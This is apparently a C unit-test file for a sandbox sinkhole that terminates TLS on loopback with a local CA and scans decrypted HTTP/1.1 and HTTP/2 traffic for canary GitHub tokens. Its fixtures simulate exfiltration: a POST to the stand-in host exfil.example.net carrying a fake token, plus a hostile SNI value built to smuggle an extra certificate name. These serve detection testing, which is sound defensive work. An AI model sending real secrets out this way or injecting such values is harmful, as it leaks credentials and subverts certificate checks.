/* tls_ca, tls_term and netsim's TLS termination: a real OpenSSL client on loopback that
 * trusts the run's CA (or another one) talks HTTPS to a running sinkhole.
 * These tests failed before the termination existed (checked by starting netsim without
 * tls_ca: the handshake gets no answer and the log has no plain bytes). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/pem.h>
#include <openssl/ssl.h>

#include <nghttp2/nghttp2.h>

#include "tracer/canary.h"
#include "tracer/h2sink.h"
#include "tracer/netsim.h"
#include "tracer/tls_ca.h"

static const uint16_t free_port[] = {0};
static const char *const loopback[] = {"127.0.0.1"};
static const char canary_list[] = "token t1 ghp_{base62:36}\nenv GITHUB_TOKEN t1\n";

struct fixture {
	struct tls_ca *ca, *other;
	struct canary_set *canaries;
	struct netsim *ns;
	uint16_t port;
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof *f);
	struct netsim_config cfg = {0};
	char err[256] = "";
	size_t n;

	assert_non_null(f);
	f->ca = tls_ca_new("mkcert development CA", "mkcert alex@laptop", err, sizeof err);
	assert_non_null(f->ca);
	f->other = tls_ca_new(NULL, "Some Other CA", err, sizeof err);
	assert_non_null(f->other);
	assert_int_equal(canary_set_new(canary_list, strlen(canary_list), &f->canaries, err, sizeof err), CANARY_OK);
	cfg.addresses = loopback;
	cfg.n_addresses = 1;
	cfg.dns_port = 0;
	cfg.sinkhole_ports = free_port;
	cfg.n_sinkhole_ports = 1;
	cfg.canaries = f->canaries;
	cfg.tls_ca = f->ca;
	if (netsim_start(&cfg, &f->ns, err, sizeof err) != NETSIM_OK)
		fail_msg("netsim_start: %s", err);
	f->port = netsim_sinkhole_ports(f->ns, &n)[0];
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	netsim_free(f->ns);
	tls_ca_free(f->ca);
	tls_ca_free(f->other);
	canary_set_free(f->canaries);
	free(f);
	return 0;
}

static int connect_loopback(uint16_t port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
	struct timeval tv = {3, 0};
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0)
		fail_msg("connect: %s", strerror(errno));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	return fd;
}

/* A client context that trusts only ca's certificate and checks the host (or IP) name. */
static SSL_CTX *client_trusting(const struct tls_ca *ca)
{
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	BIO *b = BIO_new_mem_buf(tls_ca_pem(ca), -1);
	X509 *x = PEM_read_bio_X509(b, NULL, NULL, NULL);

	assert_non_null(x);
	assert_int_equal(X509_STORE_add_cert(SSL_CTX_get_cert_store(ctx), x), 1);
	SSL_CTX_set_verify(ctx, SSL_VERIFY_PEER, NULL);
	X509_free(x);
	BIO_free(b);
	return ctx;
}

struct exchange {
	bool handshake;
	char alpn[32];
	char answer[512];
	long verify;
};

/* A client's TLS connection for sni (NULL: none, checked against 127.0.0.1) offering the
 * ALPN list alpn (wire format); ex says how the handshake went. */
static SSL *client_connect(const struct fixture *f, const struct tls_ca *trust, const char *sni, const char *alpn,
			   struct exchange *ex)
{
	SSL_CTX *ctx = client_trusting(trust);
	SSL *ssl = SSL_new(ctx);
	const unsigned char *chosen;
	unsigned chosen_len;

	SSL_CTX_free(ctx); /* the SSL keeps its reference */
	SSL_set_fd(ssl, connect_loopback(f->port));
	SSL_set_alpn_protos(ssl, (const unsigned char *)alpn, (unsigned)strlen(alpn));
	if (sni) {
		SSL_set_tlsext_host_name(ssl, sni);
		SSL_set1_host(ssl, sni);
	} else {
		X509_VERIFY_PARAM_set1_ip_asc(SSL_get0_param(ssl), "127.0.0.1");
	}
	ex->handshake = SSL_connect(ssl) == 1;
	ex->verify = SSL_get_verify_result(ssl);
	if (ex->handshake) {
		SSL_get0_alpn_selected(ssl, &chosen, &chosen_len);
		snprintf(ex->alpn, sizeof ex->alpn, "%.*s", (int)chosen_len, chosen);
	}
	return ssl;
}

static void client_close(SSL *ssl)
{
	int fd = SSL_get_fd(ssl);

	ERR_clear_error();
	SSL_free(ssl);
	close(fd);
}

/* One HTTPS exchange offering http/1.1: send request, read the answer. */
static struct exchange talk(const struct fixture *f, const struct tls_ca *trust, const char *sni, const char *request)
{
	struct exchange ex = {0};
	SSL *ssl = client_connect(f, trust, sni, "\x08http/1.1", &ex);
	int n;

	if (ex.handshake) {
		assert_int_equal(SSL_write(ssl, request, (int)strlen(request)), (int)strlen(request));
		for (size_t got = 0; got + 1 < sizeof ex.answer; got += (size_t)n)
			if ((n = SSL_read(ssl, ex.answer + got, (int)(sizeof ex.answer - 1 - got))) <= 0)
				break;
	}
	client_close(ssl);
	return ex;
}

/* ---- an HTTP/2 client (libnghttp2's client session) over the TLS connection ---- */

struct h2_client {
	SSL *ssl;
	const char *body;
	size_t body_len, body_off;
	char status[8];
	char answer[64];
	size_t answer_len;
	bool closed;
};

static ssize_t h2_send(nghttp2_session *session, const uint8_t *p, size_t n, int flags, void *user)
{
	struct h2_client *cl = user;
	(void)session;
	(void)flags;
	return SSL_write(cl->ssl, p, (int)n) == (int)n ? (ssize_t)n : NGHTTP2_ERR_CALLBACK_FAILURE;
}

static ssize_t h2_body(nghttp2_session *session, int32_t id, uint8_t *buf, size_t len, uint32_t *flags,
		       nghttp2_data_source *src, void *user)
{
	struct h2_client *cl = user;
	size_t n = cl->body_len - cl->body_off;
	(void)session, (void)id, (void)src;

	n = n < len ? n : len;
	memcpy(buf, cl->body + cl->body_off, n);
	cl->body_off += n;
	if (cl->body_off == cl->body_len)
		*flags |= NGHTTP2_DATA_FLAG_EOF;
	return (ssize_t)n;
}

static int h2_header(nghttp2_session *session, const nghttp2_frame *frame, const uint8_t *name, size_t namelen,
		     const uint8_t *value, size_t valuelen, uint8_t flags, void *user)
{
	struct h2_client *cl = user;
	(void)session, (void)frame, (void)flags;

	if (namelen == 7 && memcmp(name, ":status", 7) == 0)
		snprintf(cl->status, sizeof cl->status, "%.*s", (int)valuelen, value);
	return 0;
}

static int h2_data(nghttp2_session *session, uint8_t flags, int32_t id, const uint8_t *p, size_t n, void *user)
{
	struct h2_client *cl = user;
	(void)session, (void)flags, (void)id;

	n = n < sizeof cl->answer - 1 - cl->answer_len ? n : sizeof cl->answer - 1 - cl->answer_len;
	memcpy(cl->answer + cl->answer_len, p, n);
	cl->answer_len += n;
	return 0;
}

static int h2_closed(nghttp2_session *session, int32_t id, uint32_t code, void *user)
{
	(void)session, (void)id, (void)code;
	((struct h2_client *)user)->closed = true;
	return 0;
}

/* One h2 POST of body to path on ssl; returns when the answer's stream closed (or the
 * connection failed). */
static void h2_post(struct h2_client *cl, const char *authority, const char *path)
{
	nghttp2_session_callbacks *cb;
	nghttp2_session *session;
	nghttp2_nv nv[] = {
		{(uint8_t *)":method", (uint8_t *)"POST", 7, 4, 0},
		{(uint8_t *)":scheme", (uint8_t *)"https", 7, 5, 0},
		{(uint8_t *)":authority", (uint8_t *)authority, 10, strlen(authority), 0},
		{(uint8_t *)":path", (uint8_t *)path, 5, strlen(path), 0},
		{(uint8_t *)"content-type", (uint8_t *)"application/json", 12, 16, 0},
	};
	nghttp2_data_provider body = {.read_callback = h2_body};
	uint8_t buf[4096];
	int n;

	cl->body_len = strlen(cl->body);
	assert_int_equal(nghttp2_session_callbacks_new(&cb), 0);
	nghttp2_session_callbacks_set_send_callback(cb, h2_send);
	nghttp2_session_callbacks_set_on_header_callback(cb, h2_header);
	nghttp2_session_callbacks_set_on_data_chunk_recv_callback(cb, h2_data);
	nghttp2_session_callbacks_set_on_stream_close_callback(cb, h2_closed);
	assert_int_equal(nghttp2_session_client_new(&session, cb, cl), 0);
	nghttp2_session_callbacks_del(cb);
	assert_int_equal(nghttp2_submit_settings(session, NGHTTP2_FLAG_NONE, NULL, 0), 0);
	assert_true(nghttp2_submit_request(session, NULL, nv, sizeof nv / sizeof nv[0], &body, NULL) > 0);
	while (!cl->closed && nghttp2_session_send(session) == 0 && (n = SSL_read(cl->ssl, buf, sizeof buf)) > 0)
		if (nghttp2_session_mem_recv(session, buf, (size_t)n) < 0)
			break;
	nghttp2_session_del(session);
}

static const struct netsim_connection *logged(const struct fixture *f, size_t want)
{
	struct netsim_stats st;

	for (int i = 0; i < 300; i++) {
		netsim_stats(f->ns, &st);
		if (st.connections >= want)
			return netsim_connection_at(f->ns, want - 1);
		usleep(10000);
	}
	fail_msg("%zu connections logged, want %zu", st.connections, want);
	return NULL;
}

static void test_request_inside_is_read(void **state)
{
	struct fixture *f = *state;
	const char *token = f->canaries->env.items[0].canary->value;
	char request[512];
	struct exchange ex;
	const struct netsim_connection *c;

	snprintf(request, sizeof request,
		 "POST /collect?v=2 HTTP/1.1\r\nHost: exfil.example.net\r\nContent-Type: application/json\r\n"
		 "Content-Length: %zu\r\n\r\n{\"t\":\"%s\"}", strlen(token) + 8, token);
	ex = talk(f, f->ca, "exfil.example.net", request);
	assert_true(ex.handshake);
	assert_int_equal(ex.verify, X509_V_OK);
	assert_string_equal(ex.alpn, "http/1.1");
	assert_non_null(strstr(ex.answer, "HTTP/1.1 200 OK"));
	assert_non_null(strstr(ex.answer, "{}"));
	c = logged(f, 1);
	assert_true(c->tls_intercepted);
	assert_null(c->tls_refused);
	assert_string_equal(c->tls_name, "exfil.example.net");
	assert_int_equal(c->protocol, SINKHOLE_TLS);
	assert_int_equal(c->http_requests, 1);
	assert_int_equal(c->plain_len, strlen(request));
	assert_memory_equal(c->plain_bytes, request, strlen(request));
	assert_int_equal(c->n_hits, 1);
	assert_string_equal(c->hits[0].canary->name, "t1");
	assert_string_equal(c->hits[0].layer, NETSIM_TLS_LAYER);
}

/* A client offering only h2 gets h2 and is read: its request reaches the log written out as
 * HTTP/1.1, the canary in its body is found, and it gets 200 "{}". Failed before h2sink
 * (checked: with ALPN back to http/1.1 only and no h2 session, the handshake gives no ALPN,
 * the answer is no h2 frame and the log has no request). */
static void test_h2_request_inside_is_read(void **state)
{
	struct fixture *f = *state;
	const char *token = f->canaries->env.items[0].canary->value;
	char body[128], want[512];
	struct exchange ex = {0};
	struct h2_client cl = {.body = body};
	const struct netsim_connection *c;

	snprintf(body, sizeof body, "{\"t\":\"%s\"}", token);
	cl.ssl = client_connect(f, f->ca, "h2.example.net", "\x02h2", &ex);
	assert_true(ex.handshake);
	assert_string_equal(ex.alpn, "h2");
	h2_post(&cl, "h2.example.net", "/v1/upload?x=1");
	client_close(cl.ssl);
	assert_true(cl.closed);
	assert_string_equal(cl.status, "200");
	assert_string_equal(cl.answer, "{}");
	c = logged(f, 1);
	assert_true(c->tls_intercepted);
	assert_true(c->http2);
	assert_int_equal(c->http_requests, 1);
	snprintf(want, sizeof want, "POST /v1/upload?x=1 HTTP/1.1\r\nHost: h2.example.net\r\n"
		 "content-type: application/json\r\nContent-Length: %zu\r\n\r\n%s", strlen(body), body);
	assert_int_equal(c->plain_len, strlen(want));
	assert_memory_equal(c->plain_bytes, want, strlen(want));
	assert_int_equal(c->n_hits, 1);
	assert_string_equal(c->hits[0].canary->name, "t1");
	assert_null(c->scan_problem);
}

/* A body past what an h2 request keeps is answered all the same, and the cut is said
 * (scan_problem), never silent. */
static void test_h2_body_over_the_cap_is_said(void **state)
{
	struct fixture *f = *state;
	size_t n = H2SINK_BODY_MAX + H2SINK_BODY_MAX / 2;
	char *body = malloc(n + 1);
	struct exchange ex = {0};
	struct h2_client cl = {.body = body};
	const struct netsim_connection *c;

	assert_non_null(body);
	memset(body, 'a', n);
	body[n] = '\0';
	cl.ssl = client_connect(f, f->ca, "big.example.net", "\x02h2", &ex);
	assert_true(ex.handshake);
	h2_post(&cl, "big.example.net", "/upload");
	client_close(cl.ssl);
	free(body);
	assert_string_equal(cl.status, "200");
	c = logged(f, 1);
	assert_true(c->http2);
	assert_int_equal(c->http_requests, 1);
	assert_non_null(c->scan_problem);
	assert_non_null(strstr(c->scan_problem, "HTTP/2 request body over 1 MiB"));
	assert_true(c->plain_truncated); /* the transcript is kept up to the connection's cap */
}

static void test_other_ca_is_refused(void **state)
{
	struct fixture *f = *state;
	struct exchange ex = talk(f, f->other, "api.example.com", "GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
	const struct netsim_connection *c;

	assert_false(ex.handshake);
	c = logged(f, 1);
	assert_false(c->tls_intercepted);
	assert_non_null(c->tls_refused);
	assert_true(c->tls_alert);
	assert_string_equal(c->tls_refused, "unknown CA"); /* the alert OpenSSL's client sends */
	assert_string_equal(c->tls_name, "api.example.com");
	assert_int_equal(c->plain_len, 0);
}

static void test_no_sni_gets_the_address(void **state)
{
	struct fixture *f = *state;
	struct exchange ex = talk(f, f->ca, NULL, "GET /ip HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
	const struct netsim_connection *c;

	assert_true(ex.handshake);
	assert_int_equal(ex.verify, X509_V_OK);
	c = logged(f, 1);
	assert_true(c->tls_intercepted);
	assert_string_equal(c->tls_name, "127.0.0.1");
}

static void test_leaf_is_minted_once_per_name(void **state)
{
	struct fixture *f = *state;
	const char *get = "GET / HTTP/1.1\r\nHost: a.example.com\r\n\r\n";

	assert_true(talk(f, f->ca, "a.example.com", get).handshake);
	assert_true(talk(f, f->ca, "a.example.com", get).handshake);
	assert_true(talk(f, f->ca, "b.example.com", get).handshake);
	logged(f, 3);
	assert_int_equal(tls_ca_minted(f->ca), 2);
}

static void test_hostile_sni_gets_no_leaf(void **state)
{
	struct fixture *f = *state;
	/* a name that would be two SANs if pasted into a config string */
	struct exchange ex = talk(f, f->ca, "a.example.com,IP:127.0.0.1", "GET / HTTP/1.1\r\n\r\n");
	const struct netsim_connection *c;

	assert_false(ex.handshake);
	c = logged(f, 1);
	assert_false(c->tls_intercepted);
	assert_non_null(c->tls_refused);
	assert_int_equal(tls_ca_minted(f->ca), 0);
}

static void test_ca_pem_and_hashed_name(void **state)
{
	struct fixture *f = *state;
	char name[32];

	assert_non_null(strstr(tls_ca_pem(f->ca), "-----BEGIN CERTIFICATE-----"));
	tls_ca_hashed_name(f->ca, name, sizeof name);
	assert_int_equal(strlen(name), 10);
	assert_string_equal(name + 8, ".0");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_request_inside_is_read, setup, teardown),
		cmocka_unit_test_setup_teardown(test_h2_request_inside_is_read, setup, teardown),
		cmocka_unit_test_setup_teardown(test_h2_body_over_the_cap_is_said, setup, teardown),
		cmocka_unit_test_setup_teardown(test_other_ca_is_refused, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_sni_gets_the_address, setup, teardown),
		cmocka_unit_test_setup_teardown(test_leaf_is_minted_once_per_name, setup, teardown),
		cmocka_unit_test_setup_teardown(test_hostile_sni_gets_no_leaf, setup, teardown),
		cmocka_unit_test_setup_teardown(test_ca_pem_and_hashed_name, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
